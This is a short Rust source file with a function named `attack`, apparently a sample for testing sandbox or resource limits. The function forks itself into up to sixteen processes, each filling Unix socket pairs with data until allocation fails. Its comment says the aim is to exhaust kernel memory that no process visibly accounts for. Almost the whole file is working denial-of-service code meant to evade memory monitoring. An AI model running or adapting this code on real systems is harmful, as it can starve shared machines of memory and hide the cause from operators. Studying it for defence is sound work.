// Full pairs of sockets: their memory is the kernel's, and no process shows it.
use std::io::Write;
use std::os::unix::net::UnixStream;
unsafe extern "C" {
    fn fork() -> i32;
}
pub fn attack(_: &str) -> bool {
    for _ in 0..4 {
        unsafe { fork() };
    }
    let mut pairs = Vec::new();
    while let Ok((mut one, mut other)) = UnixStream::pair() {
        for end in [&mut one, &mut other] {
            let _ = end.set_nonblocking(true);
            while end.write(&[1; 64 * 1024]).is_ok() {}
        }
        pairs.push((one, other));
    }
    std::thread::sleep(std::time::Duration::from_secs(20));
    pairs.len() > 100
}
